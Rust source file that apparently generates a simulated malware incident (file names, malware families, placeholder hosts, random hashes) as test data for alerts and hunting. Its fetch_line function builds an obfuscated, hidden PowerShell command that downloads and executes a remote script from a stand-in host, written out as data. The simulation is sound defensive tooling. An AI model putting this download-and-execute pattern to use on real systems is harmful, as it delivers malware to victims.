//! What is going on in a tenant: one file that ran where it should not have.

use base64::Engine as _;

use super::Machine;
use super::machine::Role;
use crate::seed::{Seed, hex};

const FILES: [(&str, &str, &str); 4] = [
    ("updater.dll", "C:\\ProgramData\\Contoso Update", "Wacatac"),
    ("invoice_2207.dll", "C:\\Users\\Public\\Documents", "Emotet"),
    ("teamsync.dll", "C:\\Users\\Public\\Libraries", "Qakbot"),
    ("hpdriver.dll", "C:\\Windows\\Temp\\hp", "Bazarldr"),
];
const FAR_ENDS: [(&str, &str); 3] = [
    ("198.51.100.23", "cdn-sync.example.net"),
    ("198.51.100.77", "static-media.example.org"),
    ("192.0.2.146", "login-check.example.net"),
];

/// The made-up incident that alerts, evidence and hunting rows tell of.
#[derive(Clone, Debug)]
pub(crate) struct Scenario {
    pub(crate) file: String,
    pub(crate) folder: String,
    pub(crate) family: String,
    pub(crate) sha1: String,
    pub(crate) sha256: String,
    /// The hashes of `rundll32.exe`, which loaded it.
    pub(crate) loader_sha1: String,
    pub(crate) loader_sha256: String,
    pub(crate) far_ip: String,
    pub(crate) far_name: String,
    pub(crate) command_line: String,
    /// The line that fetched it: PowerShell with an encoded command.
    pub(crate) fetch_line: String,
    pub(crate) pid: u64,
    pub(crate) parent_pid: u64,
    /// When the file ran.
    pub(crate) at_ms: i64,
    /// Where it ran: the index of a machine, a workstation where there is one.
    pub(crate) victim: usize,
    /// Where it lies without having run.
    pub(crate) also_on: Vec<usize>,
}

impl Scenario {
    pub(super) fn new(seed: &Seed, machines: &[Machine], now_ms: i64) -> Self {
        let seed = seed.child("scenario");
        let (file, folder, family) = *seed.pick("file", 0, &FILES);
        let (far_ip, far_name) = *seed.pick("far end", 0, &FAR_ENDS);
        let mut workstations: Vec<usize> = machines
            .iter()
            .enumerate()
            .filter(|(_, machine)| machine.role == Role::Workstation)
            .map(|(at, _)| at)
            .collect();
        if workstations.is_empty() {
            workstations.push(0);
        }
        let victim = *seed.pick("victim", 0, &workstations);
        let others: Vec<usize> = workstations
            .into_iter()
            .filter(|at| *at != victim)
            .collect();
        let first = usize::try_from(seed.below("others", 0, 100)).unwrap_or(0);
        let also_on = others
            .iter()
            .cycle()
            .skip(first)
            .take(others.len().min(2))
            .copied();
        Self {
            sha1: seed.hex("sha1", 0, 40),
            sha256: hex(&seed.digest("sha256", 0)),
            loader_sha1: seed.hex("loader sha1", 0, 40),
            loader_sha256: hex(&seed.digest("loader sha256", 0)),
            far_ip: far_ip.to_owned(),
            far_name: far_name.to_owned(),
            command_line: format!("rundll32.exe \"{folder}\\{file}\",DllRegisterServer"),
            fetch_line: fetch_line(far_name, file),
            pid: 2000 + seed.below("pid", 0, 20_000) * 4,
            parent_pid: 1000 + seed.below("parent pid", 0, 1000) * 4,
            at_ms: now_ms - 150_000,
            victim,
            also_on: also_on.collect(),
            file: file.to_owned(),
            folder: folder.to_owned(),
            family: family.to_owned(),
        }
    }
}

/// PowerShell that hides what it fetches, as attackers write it.
fn fetch_line(far_name: &str, file: &str) -> String {
    let script =
        format!("IEX (New-Object Net.WebClient).DownloadString('https://{far_name}/{file}.ps1')");
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = base64::engine::general_purpose::STANDARD.encode(bytes);
    format!("powershell.exe -w hidden -EncodedCommand {encoded}")
}
